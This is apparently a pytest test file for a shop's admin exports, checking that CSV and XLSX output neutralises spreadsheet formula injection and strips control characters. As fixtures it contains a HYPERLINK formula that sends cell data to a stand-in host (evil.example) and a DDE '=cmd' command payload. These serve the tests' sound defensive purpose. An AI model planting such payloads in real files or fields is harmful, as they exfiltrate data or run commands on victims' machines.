"""Exports of hostile customer text: control characters and spreadsheet formulas."""

import csv
import json
from io import BytesIO, StringIO

import openpyxl
import pytest

from commerce.orders.models import OrderLine
from tests.commerce.factories import UserFactory
from tests.commerce.fixtures import client_for
from tests.commerce.report_fixtures import at, order_make, shop_history

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CONTROL_NAME = "Eve\x07\x1b Bell"
GIFT_TEXT = "For\x01 you\x0b@SUM(1+1)"


@pytest.fixture
def hostile():
    history = shop_history()
    eve = UserFactory(email="eve@example.com", name=CONTROL_NAME, phone="+49 30 1234")
    mallory = UserFactory(email="mallory@example.com", name=HOSTILE_NAME, phone="-1+2")
    order = order_make(
        customer=eve,
        created_at=at("2026-03-05T10:00"),
        lines=[(history["mug"], 1, "10.00")],
    )
    OrderLine.objects.filter(order=order).update(
        name="\t=cmd|' /C calc'!A0",
        customizations=[{"label": "Gift text", "kind": "text", "value": GIFT_TEXT}],
    )
    return {"order": order, "eve": eve, "mallory": mallory}


def _sheet(response):
    sheet = openpyxl.load_workbook(BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def _by_email(rows, column=1):
    return {row[column]: row for row in rows[1:]}


def test_customers_xlsx_with_control_characters_and_formulas_is_text(hostile, manager):
    response = client_for(manager).get(
        "/api/admin/exports/customers", {"format": "xlsx"}
    )

    assert response.status_code == 200
    rows = _by_email(_sheet(response))
    assert rows["eve@example.com"][2:4] == ["Eve Bell", "'+49 30 1234"]
    assert rows["mallory@example.com"][2:4] == ["'" + HOSTILE_NAME, "'-1+2"]
    workbook = openpyxl.load_workbook(BytesIO(response.content))
    assert all(
        cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row
    )


def test_customers_csv_neutralises_formula_prefixes(hostile, manager):
    response = client_for(manager).get(
        "/api/admin/exports/customers", {"format": "csv"}
    )

    text = b"".join(response.streaming_content).decode()
    rows = {r["email"]: r for r in csv.DictReader(StringIO(text))}
    assert rows["mallory@example.com"]["name"] == "'" + HOSTILE_NAME
    assert rows["eve@example.com"]["name"] == "Eve Bell"
    # Amounts stay numbers: a plain number is never prefixed.
    assert rows["alice@example.com"]["total_spent"] == "43.00"


@pytest.mark.parametrize("export_format", ["xlsx", "csv"])
def test_orders_with_hostile_lines_and_gift_text_export(
    hostile, manager, export_format
):
    response = client_for(manager).get(
        "/api/admin/exports/orders", {"format": export_format, "sort": "oldest"}
    )

    assert response.status_code == 200
    if export_format == "xlsx":
        rows = _sheet(response)
        line = next(r for r in rows if r[0] == hostile["order"].number)
        name, gift = line[10], line[16]
    else:
        text = b"".join(response.streaming_content).decode()
        line = next(
            r
            for r in csv.DictReader(StringIO(text))
            if r["order_number"] == hostile["order"].number
        )
        name, gift = line["line_name"], line["customizations"]
    assert name == "'\t=cmd|' /C calc'!A0"
    assert gift == "Gift text: For you@SUM(1+1)"


def test_json_export_keeps_the_text_as_stored(hostile, manager):
    response = client_for(manager).get(
        "/api/admin/exports/customers", {"format": "json"}
    )

    rows = {r["email"]: r for r in json.loads(response.content)}
    assert rows["mallory@example.com"]["name"] == HOSTILE_NAME


def test_the_admin_customer_export_is_sanitised_too(hostile, client, manager):
    client.force_login(manager)

    response = client.get("/admin/shop/exports/customers/", {"format": "xlsx"})

    assert response.status_code == 200, response.content[:500]
    rows = _by_email(_sheet(response))
    assert rows["mallory@example.com"][2] == "'" + HOSTILE_NAME
